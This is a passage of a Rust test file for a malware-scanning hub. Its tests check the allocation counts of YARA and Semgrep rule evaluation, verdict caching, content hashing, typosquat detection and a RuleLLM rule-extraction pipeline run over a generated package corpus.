    let spent = ledger(|| rescan = hub.retro_rescan(&deployment));
    let rescan = rescan.expect("retro index enabled");
    check_ledger(
        "its rescan",
        spent,
        &[(Stage::RetroConfirm, 431), (Stage::Idle, 89)],
    );
    let confirm = |spent: [u64; STAGES]| spent[Stage::RetroConfirm as usize];
    assert!(confirm(hunt_spent) < confirm(spent), "reuse saved nothing");
    assert!(hunt.same_hits(&rescan), "hunt ≡ rescan");
    assert_eq!(hunt.full_candidacy_rules, 1);
    assert_eq!(hunt.confirm_scans, hunt.digests_indexed);
    assert!(
        !hunt.rules[0].digests.is_empty(),
        "hunt_blob confirmed nothing"
    );
    assert_eq!(hunt.bytes_scanned, 0, "a reused string read bytes");
    assert!(rescan.bytes_scanned > 0);
}

/// A rule deployment books every allocation it makes — the new bundle's
/// prefilter index, its diff and the changed rules' subset rulesets — to
/// its own `Deploy` step, none to `Idle`, and leaves the caller's tag as
/// it found it.
#[test]
fn a_rule_deployment_books_its_allocations_to_deploy() {
    let (live_yara, live_semgrep) = serving_rules();
    let hub = ScanHub::new(
        Some(live_yara.clone()),
        Some(live_semgrep.clone()),
        HubConfig {
            workers: 1,
            ..HubConfig::default()
        },
    );
    let mut yara = live_yara.clone();
    let added =
        yara_engine::compile(r#"rule deploy_atom { strings: $a = "subprocess" condition: $a }"#)
            .expect("the new rule compiles");
    yara.rules.extend(added.rules);
    let semgrep = live_semgrep.clone();
    let mut deployment = None;
    let spent = ledger(|| deployment = Some(hub.deploy_rules(Some(yara), Some(semgrep))));
    let deployment = deployment.expect("deployed");
    assert_eq!(deployment.delta.changed.len(), 1);
    let deploy = spent[Stage::Deploy as usize];
    assert!(deploy > 0, "a deployment allocated nothing");
    assert_eq!(spent[Stage::Idle as usize], 0);
    assert_eq!(spent.iter().sum::<u64>(), deploy, "{spent:?}");
    assert_eq!(Stage::current(), Stage::Idle);
}

/// The retro index's 2 MiB gram bitmap is allocated with the hub, on the
/// constructing thread, and only when the hub keeps the index: a hub
/// built with `retro_index: false` allocates under 1 MiB there, a default
/// one at least the bitmap. A bitmap allocated at the first hunt instead
/// would land in that hunt's allocations.
#[test]
fn the_gram_bitmap_is_allocated_with_the_hub_that_keeps_the_index() {
    const BITMAP: u64 = 2 << 20;
    let _hub = HUB.lock().unwrap_or_else(|e| e.into_inner());
    let (yara, semgrep) = serving_rules();
    let construct = |retro_index| {
        let rules = (Some(yara.clone()), Some(semgrep.clone()));
        let config = HubConfig {
            workers: 1,
            retro_index,
            ..HubConfig::default()
        };
        counted_bytes(|| ScanHub::new(rules.0, rules.1, config)).1
    };
    let (without, with) = (construct(false), construct(true));
    println!("ScanHub::new allocated {with} bytes with the index, {without} without");
    assert!(without < 1 << 20, "{without} bytes without the index");
    assert!(with >= BITMAP, "{with} bytes with the index");
}

/// The allocations a list makes growing to `n` items one push at a time.
fn list_growth(n: usize) -> u64 {
    counted(|| {
        let mut list = Vec::new();
        for _ in 0..n {
            list.push(String::new());
        }
    })
    .1
}

/// Evaluating rules over cached artifacts allocates only the verdict's
/// lists. A one-worker hub over the serving rules, with its verdict cache
/// off, scans every upload of the corpus and its mutants, then scans them
/// all again, every file an artifact hit. On the second pass the `Yara`,
/// `Layers`, `Semgrep` and `Dataflow` stages of each package book
/// nothing: a finding holds the evaluator's rule-name handle, the
/// request's file-name handle and the artifact's flow, and the lists the
/// worker collects into kept their capacity from the first pass. The
/// `Verdict` stage books exactly one allocation per non-empty list, its
/// freeze; a failure names the stage and the package. While each finding
/// copied its strings, the first three booked one string per YARA rule
/// name, two per layer finding and one per Semgrep id, plus each list's
/// growth, and `Dataflow` a copy of every flow.
#[test]
fn evaluating_cached_artifacts_allocates_only_the_verdict() {
    let _hub = HUB.lock().unwrap_or_else(|e| e.into_inner());
    let (yara, semgrep) = serving_rules();
    let hub = ScanHub::new(
        Some(yara.clone()),
        Some(semgrep.clone()),
        HubConfig {
            workers: 1,
            cache_capacity: 0,
            ..HubConfig::default()
        },
    );
    let requests: Vec<ScanRequest> = packages().iter().map(ScanRequest::from_package).collect();
    for request in &requests {
        hub.submit(request.clone()).wait();
    }
    let files: usize = requests.iter().map(|r| r.files().len()).sum();
    let (before, mut found) = (hub.stats(), [0usize; 4]);
    for (i, request) in requests.iter().enumerate() {
        let start = all_by_stage();
        let verdict = hub.submit(request.clone()).wait();
        let spent = all_by_stage();
        let booked = |stage: Stage| spent[stage as usize] - start[stage as usize];
        for stage in [Stage::Yara, Stage::Layers, Stage::Semgrep, Stage::Dataflow] {
            let n = booked(stage);
            assert_eq!(
                n, 0,
                "package {i}: the {stage:?} stage made {n} allocations"
            );
        }
        let lists = [
            verdict.yara.len(),
            verdict.layers.len(),
            verdict.semgrep.len(),
            verdict.flows.len(),
        ];
        let frozen = lists.iter().filter(|&&n| n > 0).count() as u64;
        assert_eq!(
            booked(Stage::Verdict),
            frozen,
            "package {i}: the `Verdict` stage for {lists:?} findings"
        );
        for (k, n) in lists.into_iter().enumerate() {
            found[k] += n;
        }
    }
    println!(
        "{} packages re-scanned: {} YARA names, {} layer findings, {} Semgrep ids, {} flows",
        requests.len(),
        found[0],
        found[1],
        found[2],
        found[3]
    );
    let after = hub.stats();
    assert_eq!(
        after.artifact_cache_hits - before.artifact_cache_hits,
        files as u64
    );
    assert_eq!(after.artifact_parses, before.artifact_parses);
    // Vacuity guard: every list was filled somewhere.
    assert!(found.iter().all(|&n| n > 0), "{found:?} findings");
}

/// The allocations of every hub thread, by stage, as of now.
fn all_by_stage() -> [u64; STAGES] {
    ALL_BY_STAGE.each_ref().map(|n| n.load(Ordering::Relaxed))
}

/// Submits `request` and waits for it on this thread, checking that the
/// wait allocates nothing: the waiter's copy of the shared verdict bumps
/// the counts of its lists. Returns the verdict and what every thread
/// booked, by stage, from submit to verdict.
fn submit_and_wait(hub: &ScanHub, request: &ScanRequest, i: usize) -> (Verdict, [u64; STAGES]) {
    let start = all_by_stage();
    let ticket = hub.submit(request.clone());
    let (verdict, wait) = counted(|| ticket.wait());
    let spent = all_by_stage();
    assert_eq!(wait, 0, "package {i}: the wait made {wait} allocations");
    (verdict, std::array::from_fn(|k| spent[k] - start[k]))
}

/// Completing a scan allocates one shared handle. A one-worker hub with
/// telemetry on and its verdict cache off scans every upload of the corpus
/// and its mutants twice, cold and then with every file an artifact hit.
/// Each scan's `Complete` stage makes exactly one allocation, the handle
/// on its verdict: the flight recorder keeps that handle, not a trace, and
/// the ticket hands it to the waiter. Each `wait` allocates nothing; it
/// made a deep copy of the verdict while the finding lists were owned.
#[test]
fn completing_a_scan_allocates_only_the_shared_verdict_handle() {
    let _hub = HUB.lock().unwrap_or_else(|e| e.into_inner());
    let (yara, semgrep) = serving_rules();
    let hub = ScanHub::new(
        Some(yara.clone()),
        Some(semgrep.clone()),
        HubConfig {
            workers: 1,
            cache_capacity: 0,
            ..HubConfig::default()
        },
    );
    assert!(hub.telemetry_enabled());
    let requests: Vec<ScanRequest> = packages().iter().map(ScanRequest::from_package).collect();
    let mut flagged = 0;
    for pass in 0..2 {
        for (i, request) in requests.iter().enumerate() {
            let (verdict, spent) = submit_and_wait(&hub, request, i);
            let complete = spent[Stage::Complete as usize];
            assert_eq!(
                complete, 1,
                "pass {pass}, package {i}: `Complete` made {complete}"
            );
            flagged += usize::from(verdict.flagged());
        }
    }
    let scans = 2 * requests.len() as u64;
    assert_eq!(hub.stats().completed, scans);
    assert_eq!(hub.traces_recorded(), scans);
    // Vacuity guard: some verdicts had findings to copy.
    assert!(flagged > 0);
}

/// A verdict-cache hit shares the cached verdict. A one-worker hub with
/// telemetry and its verdict cache on scans every upload of the corpus and
/// its mutants, then submits each again, every one a hit, pass after pass.
/// A hit's `Cache` and `Complete` stages allocate only the growth of the
/// cache's recency queue, one push per hit: at most one allocation per
/// hit while the queue grows toward its bound (4 entries per cached
/// verdict, 4 passes), none after. Each `wait` on a hit allocates nothing:
/// its copy, the one a hit makes to say `from_cache`, shares the lists.
#[test]
fn a_verdict_cache_hit_allocates_nothing_but_its_copy() {
    let _hub = HUB.lock().unwrap_or_else(|e| e.into_inner());
    let (yara, semgrep) = serving_rules();
    let hub = ScanHub::new(
        Some(yara.clone()),
        Some(semgrep.clone()),
        HubConfig {
            workers: 1,
            ..HubConfig::default()
        },
    );
    let requests: Vec<ScanRequest> = packages().iter().map(ScanRequest::from_package).collect();
    for request in &requests {
        hub.submit(request.clone()).wait();
    }
    let before = hub.stats().cache_hits;
    let (mut growth, mut flagged) = (0, 0);
    for pass in 0..5 {
        for (i, request) in requests.iter().enumerate() {
            let (verdict, spent) = submit_and_wait(&hub, request, i);
            assert!(verdict.from_cache, "pass {pass}, package {i}: not a hit");
            let made = spent[Stage::Cache as usize] + spent[Stage::Complete as usize];
            let bound = u64::from(pass < 4);
            assert!(
                made <= bound,
                "pass {pass}, package {i}: a hit made {made} allocations in `Cache` and `Complete`"
            );
            growth += made;
            flagged += usize::from(verdict.flagged());
        }
    }
    println!("the recency queue grew {growth} times");
    let hits = 5 * requests.len() as u64;
    assert_eq!(hub.stats().cache_hits - before, hits);
    // Vacuity guard: some hits had findings to copy.
    assert!(flagged > 0);
}

/// The submit path's sibling check allocates nothing. A one-worker hub
/// with its verdict cache off scans every upload of the corpus and its
/// mutants; each upload is then submitted twice more as new entries,
/// once with no digest known, so each file is compared with the resident
/// version of its name, and once with every digest hashed beforehand, so
/// nothing is compared. The submitting thread makes the same allocations
/// for both. (A verdict-cache hit would add the recency queue's growth.)
#[test]
fn the_submit_path_sibling_check_allocates_nothing() {
    let _hub = HUB.lock().unwrap_or_else(|e| e.into_inner());
    let (yara, semgrep) = serving_rules();
    let hub = ScanHub::new(
        Some(yara.clone()),
        Some(semgrep.clone()),
        HubConfig {
            workers: 1,
            cache_capacity: 0,
            telemetry: false,
            ..HubConfig::default()
        },
    );
    let uploads = || {
        packages()
            .iter()
            .map(ScanRequest::from_package)
            .collect::<Vec<_>>()
    };
    for request in uploads() {
        hub.submit(request).wait();
    }
    let (compared, hashed) = (uploads(), uploads());
    let before = hub.stats().digests_reused;
    for (i, (compared, hashed)) in compared.into_iter().zip(hashed).enumerate() {
        hashed.digest();
        let (first, with_check) = counted(|| hub.submit(compared).wait());
        let (second, without) = counted(|| hub.submit(hashed).wait());
        assert!(first.same_matches(&second), "package {i}");
        assert_eq!(
            with_check,
            without,
            "package {i}: the sibling check made {} allocations",
            with_check as i64 - without as i64
        );
    }
    // Vacuity guard: files were compared and found equal.
    let reused = hub.stats().digests_reused - before;
    println!("the sibling check reused {reused} digests");
    assert!(reused > 0);
}

/// Content hashing streams: a file digest and a request digest over every
/// upload of the corpus and its mutants allocate nothing, and a package
/// signature allocates only its 64-byte hex string, not the combined
/// source it hashes.
#[test]
fn content_digests_allocate_only_the_signature_hex() {
    let entries = upload_entries();
    let ((), bytes) = counted_bytes(|| {
        for entry in &entries {
            entry.digest();
        }
    });
    assert_eq!(bytes, 0, "FileEntry::digest over {} entries", entries.len());

    let packages = packages();
    let requests: Vec<ScanRequest> = packages.iter().map(ScanRequest::from_package).collect();
    let ((), bytes) = counted_bytes(|| {
        for request in &requests {
            request.digest();
        }
    });
    assert_eq!(
        bytes,
        0,
        "ScanRequest::digest over {} requests",
        requests.len()
    );

    for package in &packages {
        let ((signature, bytes), calls) = counted(|| counted_bytes(|| package.signature()));
        assert_eq!((calls, bytes), (1, 64), "{}", package.metadata().name);
        assert_eq!(signature.len(), 64);
    }
}

/// The unique malware of the tiny corpus: RuleLLM's extraction input.
fn unique_malware() -> Vec<Package> {
    let dataset = Dataset::generate(&CorpusConfig::tiny());
    let unique = dataset.unique_malware();
    unique.into_iter().map(|m| m.package.clone()).collect()
}

/// RuleLLM's knowledge extraction (metadata, code, basic units, the unit
/// audit, embeddings, grouping) over the tiny corpus's unique malware
/// stays within the 4 902 allocations it was measured at, this thread's
/// IOC regex caches and token buffer warmed by a first pass. It made
/// 17 914 while the splitter grew and copied a `String` per unit and the
/// embedder allocated per token and bigram, 17 945 while each embedding's
/// lex allocated its token vector, and 191 559 while each unit's audit
/// built a fresh Pike VM and lazy DFA per IOC regex and the splitter ran a
/// fresh Pike VM per line.
#[test]
fn rulellm_extraction_stays_within_its_allocation_budget() {
    const BUDGET: u64 = 4_902;
    let packages = unique_malware();
    let packages: Vec<&Package> = packages.iter().collect();
    rulellm::extract_knowledge(&packages, None);
    let (groups, total) = counted(|| rulellm::extract_knowledge(&packages, None));
    let units: usize = groups.packages.iter().map(|p| p.units.len()).sum();
    println!(
        "extract_knowledge made {total} allocations over {} packages, {units} units",
        packages.len()
    );
    assert!(
        total <= BUDGET,
        "extract_knowledge made {total} allocations"
    );
}

/// `Pipeline::run` over the tiny corpus's unique malware (extraction,
/// the unit and metadata audits, prompting, alignment and deployment)
/// stays within the 8 759 allocations it was measured at, this thread's
/// IOC regex caches and token buffer warmed by a first run. It made 37 775
/// while the typosquat audit allocated per popular name, the splitter per
/// line and the embedder per token and bigram.
#[test]
fn a_pipeline_run_stays_within_its_allocation_budget() {
    const BUDGET: u64 = 8_759;
    let packages = unique_malware();
    let packages: Vec<&Package> = packages.iter().collect();
    let run = || rulellm::Pipeline::new(rulellm::PipelineConfig::full()).run(&packages);
    run();
    let (output, total) = counted(run);
    println!(
        "Pipeline::run made {total} allocations over {} packages: {} YARA and {} Semgrep rules",
        packages.len(),
        output.yara.len(),
        output.semgrep.len()
    );
    assert!(total <= BUDGET, "Pipeline::run made {total} allocations");
}

/// Every package name of the tiny corpus and its aggressive mutants.
fn package_names() -> Vec<String> {
    packages()
        .iter()
        .map(|p| p.metadata().name.clone())
        .collect()
}

/// The typosquat audit allocates one buffer per call, its lowered name:
/// the edit distance walks both names in place and keeps its two rows on
/// the stack, and the decorated names are matched in place. Over these
/// names it made 37 856 allocations while each distance collected both
/// names' chars and allocated two rows, and each decoration test built its
/// string.
#[test]
fn a_typosquat_audit_allocates_its_lowered_name_only() {
    let names = package_names();
    let (mut total, mut squats) = (0u64, 0usize);
    for name in &names {
        let (verdict, calls) = counted(|| oss_registry::is_typosquat(name));
        assert_eq!(calls, 1, "{name:?}");
        total += calls;
        squats += usize::from(verdict.is_some());
    }
    println!(
        "is_typosquat made {total} allocations over {} names, {squats} squats",
        names.len()
    );
    // Vacuity guard: the corpus has typosquatting packages.
    assert!(squats > 0, "{} names, no squat", names.len());
}

/// Every Python file of the tiny corpus and its aggressive mutants, then
/// each wrapped into one `def`, so that every file over 4 000 bytes is an
/// oversized unit the splitter cuts into pieces.
fn splitter_inputs() -> Vec<String> {
    let sources = python_sources();
    let wrapped: Vec<String> = sources
        .iter()
        .map(|src| {
            let mut out = String::from("def wrapped():\n");
            for line in src.lines() {
                out.push_str("    ");
                out.push_str(line);
                out.push('\n');
            }
            out
        })
        .collect();
    sources.into_iter().chain(wrapped).collect()
}

/// The splitter allocates its line list, each unit's `code` once at its
/// length, and the unit list: nothing per line. Over these inputs it made
/// 56 460 allocations while each unit grew a `String` line by line and
/// then copied it.
#[test]
fn a_split_allocates_one_string_per_unit() {
    let (mut total, mut units) = (0u64, 0usize);
    for src in splitter_inputs() {
        let (split, calls) = counted(|| rulellm::split_basic_units(&src));
        let lines = src.lines().count();
        assert_eq!(
            calls,
            split.len() as u64 + list_growth(lines) + list_growth(split.len()),
            "{} units of {lines} lines in {src:?}",
            split.len()
        );
        total += calls;
        units += split.len();
    }
    println!("split_basic_units made {total} allocations for {units} units");
}

/// An embedding allocates its feature list, one vector per segment, the
/// segment list and the mean, plus each string literal value that had to
/// be decoded and is kept, 24 bytes or fewer (a longer one is measured,
/// not decoded): features borrow the source, and a feature's and a bigram's
/// hashes stream over their parts. This thread's token buffer is warmed
/// first. Over these files it made 1 231 796 allocations while each feature
/// was a `String` and each bigram a `format!`.
#[test]
fn an_embedding_allocates_per_segment_not_per_token() {
    let embedder = embedding::Embedder::default();
    let sources = python_sources();
    for src in &sources {
        pysrc::lex(src);
    }
    let (mut total, mut decoded_total, mut segments_total) = (0u64, 0u64, 0u64);
    for src in &sources {
        // Read before the embedding lexes: the token list is the thread's.
        let (features, decoded) = {
            let tokens = pysrc::lex(src);
            let decoded = tokens
                .iter()
                .filter(|t| matches!(t.value(src), Cow::Owned(v) if v.len() <= 24))
                .count();
            (u64::from(!tokens.is_empty()), decoded as u64)
        };
        let (embedding, calls) = counted(|| embedder.embed_source(src));
        let segments = embedding.segments.len() as u64;
        assert_eq!(
            calls,
            features + decoded + segments + u64::from(segments > 0) + 1,
            "{segments} segments, {decoded} decoded literals in {src:?}"
        );
        total += calls;
        decoded_total += decoded;
        segments_total += segments;
    }
    println!(
        "embed_source made {total} allocations over {} files: {segments_total} segments, \
         {decoded_total} decoded literals",
        sources.len()
    );
    // Vacuity guard: some file spans several segments, and some literal
    // is decoded.
    assert!(
        segments_total > sources.len() as u64 && decoded_total > 0,
        "{segments_total} segments, {decoded_total} decoded"
    );
}

/// A warm unit audit allocates only the analysis it returns: one string
/// per indicator, the summary, and the indicator list's growth. Its IOC
/// regexes match on machines the thread keeps, so no call builds a Pike
/// VM or a lazy DFA, and a URL or IP the filters drop is never copied.
#[test]
fn a_warm_unit_audit_allocates_only_its_analysis() {
    let mut units = Vec::new();
    for package in packages() {
        for file in package.files().iter().filter(|f| f.path.ends_with(".py")) {
            units.extend(rulellm::split_basic_units(&file.contents));
        }
    }
    // Determinize every DFA state these units reach first.
    for unit in &units {
        llm_sim::analyze_code(&unit.code);
    }
    let (mut total, mut found, mut iocs, mut regexes) = (0u64, 0usize, 0usize, 0usize);
    for unit in &units {
        let (analysis, calls) = counted(|| llm_sim::analyze_code(&unit.code));
        let n = analysis.indicators.len();
        assert_eq!(
            calls,
            n as u64 + 1 + list_growth(n),
            "{n} indicators in {:?}",
            unit.code
        );
        total += calls;
        found += n;
        let kinds = analysis.indicators.iter();
        iocs += kinds
            .clone()
            .filter(|i| i.kind == llm_sim::IndicatorKind::Ioc)
            .count();
        regexes += kinds.filter(|i| i.is_regex).count();
    }
    println!(
        "analyze_code made {total} allocations over {} units: {found} indicators, \
         {iocs} IOCs, {regexes} base64 blobs",
        units.len()
    );
    // Vacuity guard: all three IOC regexes found something somewhere.
    assert!(
        iocs > 0 && regexes > 0,
        "{iocs} IOCs, {regexes} base64 blobs"
    );
}
